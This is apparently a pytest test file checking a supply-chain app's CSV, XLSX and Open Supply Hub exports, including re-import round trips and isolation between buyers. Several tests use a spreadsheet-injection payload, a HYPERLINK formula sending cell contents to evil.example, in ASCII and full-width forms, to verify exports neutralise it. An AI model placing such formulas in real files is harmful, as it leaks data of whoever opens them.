"""Exports: the import templates' columns, so they import again; Open Supply Hub's list format."""

import io
from decimal import Decimal

import openpyxl
import pytest

from stonebridge.supplychain import exporting, importing, services
from stonebridge.supplychain.models import Facility, FacilityRef, ImportJob, Link, Sourcing
from stonebridge.supplychain.tabular import read_table, write_csv

Status = ImportJob.Status
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'


def import_templates(organisation, by) -> None:
    for kind in ImportJob.Kind.values:
        job = importing.import_start(
            organisation=organisation,
            by=by,
            data=importing.template(kind, "csv"),
            filename="t.csv",
            kind=kind,
        )
        assert job.status == Status.DONE, job.errors


@pytest.fixture
def chain(buyer, owner) -> Facility:
    """The templates' two facilities, and a workshop the buyer entered by hand (no reference,
    no credit code), with a formula for a name."""
    import_templates(buyer, owner)
    workshop = services.facility_create(
        organisation=buyer,
        by=owner,
        kind="workshop",
        name_zh="",
        name_en=FORMULA,
        city="南安市",
        province="福建省",
    )
    services.link_create(
        organisation=buyer,
        by=owner,
        supplier=workshop,
        customer=FacilityRef.objects.get(ref="SUP-0001").facility,
        kind="subcontracts",
        volume=Decimal("12.5"),
    )
    return workshop


def reimport(organisation, by, kind, table, fmt="stonebridge") -> ImportJob:
    headers, rows = table
    return importing.import_start(
        organisation=organisation,
        by=by,
        data=write_csv(headers, rows),
        filename="export.csv",
        kind=kind,
        fmt=fmt,
    )


def test_the_facilities_of_the_chain_are_exported_with_reference_and_tier(buyer, chain):
    headers, rows = exporting.export_table(buyer, "facilities")
    assert headers[:3] == [
        "贵方编号 / Your reference (ref)",
        "类型 / Kind (kind)",
        "中文名称 / Name in Chinese (name_zh)",
    ]
    assert headers[-1] == "层级 / Tier (tier)"
    by_ref = {row[0]: row for row in rows}
    assert set(by_ref) == {"SUP-0001", "SUP-0002", ""}
    assert by_ref["SUP-0001"][1] == "processor"
    assert by_ref["SUP-0001"][-1] == 1
    assert by_ref[""][-1] == 2


def test_an_export_imports_again_without_changing_anything(buyer, owner, chain):
    before = (Facility.objects.count(), Link.objects.count(), Sourcing.objects.count())
    for kind in ImportJob.Kind.values:
        job = reimport(buyer, owner, kind, exporting.export_table(buyer, kind))
        assert job.status == Status.DONE, (kind, job.errors, job.review)
        assert job.result["created"] == 0
        assert job.result["updated"] == 0
    assert (Facility.objects.count(), Link.objects.count(), Sourcing.objects.count()) == before


def test_links_name_a_facility_without_reference_or_credit_code_by_its_number(buyer, chain):
    _headers, rows = exporting.export_table(buyer, "links")
    assert [f"#{chain.pk}", "SUP-0001", "subcontracts"] in [row[:3] for row in rows]
    assert ["unknown", "SUP-0001", "supplies_blocks"] in [row[:3] for row in rows]


def test_a_formula_in_a_name_is_exported_inert_as_csv(buyer, chain):
    content, filename, content_type = exporting.export_file(buyer, "csv")
    assert filename.startswith("noordsteen-")
    assert filename.endswith("-facilities.csv")
    assert content_type == "text/csv; charset=utf-8"
    table = read_table(content, filename)
    names = [row["英文或拼音名称 / Name in English or pinyin (name_en)"] for row in table.rows]
    assert "'" + FORMULA in names


def test_a_formula_in_a_name_is_exported_inert_as_xlsx(buyer, chain):
    content, filename, _content_type = exporting.export_file(buyer, "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["facilities", "links", "sourcing"]
    values = [cell.value for row in workbook["facilities"].iter_rows() for cell in row]
    assert "'" + FORMULA in values
    assert FORMULA not in values
    assert filename.endswith("-supply-chain.xlsx")


def test_open_supply_hub_round_trip_links_another_buyer_to_the_same_facilities(
    buyer, chain, other_buyer_org
):
    headers, rows = exporting.export_oshub(buyer)
    assert headers == [
        "country",
        "name",
        "address",
        "sector",
        "product_type",
        "facility_type",
        "processing_type",
        "number_of_workers",
        "parent_company",
        "lat",
        "lng",
    ]
    quarry = next(row for row in rows if row[1] == "五莲县示例花岗岩矿业有限公司")
    assert quarry == [
        "CN",
        "五莲县示例花岗岩矿业有限公司",
        "山东省 日照市 五莲县叩官镇示例村北",
        "Natural stone",
        "Granite",
        "Quarry",
        "Quarrying",
        42,
        "",
        Decimal("35.696000"),
        Decimal("119.185000"),
    ]
    before = Facility.objects.count()
    job = reimport(other_buyer_org, None, "facilities", (headers, rows), fmt="oshub")
    assert job.status == Status.DONE, (job.errors, job.review)
    assert job.result["created"] == 0
    assert job.result["matched"] == 3
    assert Facility.objects.count() == before
    # The workshop had no address: the list's, made of its place, fills it in.
    chain.refresh_from_db()
    assert chain.address == "福建省 南安市"


def test_export_file_knows_its_formats(buyer, chain):
    content, filename, _content_type = exporting.export_file(buyer, "oshub")
    assert filename.endswith("-open-supply-hub.csv")
    assert read_table(content, filename).headers[0] == "country"
    with pytest.raises(ValueError, match="unknown export format"):
        exporting.export_file(buyer, "pdf")


def test_another_buyers_chain_is_not_exported(chain, other_buyer_org):
    for kind in ImportJob.Kind.values:
        assert exporting.export_table(other_buyer_org, kind)[1] == []
    assert exporting.export_oshub(other_buyer_org)[1] == []


@pytest.mark.parametrize("sign", ["\uff1d", "\uff0b", "\uff0d", "\uff20"])  # full-width = + - @
def test_a_full_width_formula_sign_is_exported_inert_like_its_ascii_form(buyer, chain, sign):
    name = sign + 'HYPERLINK("https://evil.example","Click")'
    Facility.objects.filter(pk=chain.pk).update(name_en=name)
    content, filename, _content_type = exporting.export_file(buyer, "csv")
    names = [
        row["英文或拼音名称 / Name in English or pinyin (name_en)"]
        for row in read_table(content, filename).rows
    ]
    assert "'" + name in names
    assert name not in names
    content, _filename, _content_type = exporting.export_file(buyer, "xlsx")
    values = [
        cell.value
        for row in openpyxl.load_workbook(io.BytesIO(content))["facilities"].iter_rows()
        for cell in row
    ]
    assert "'" + name in values
    assert name not in values
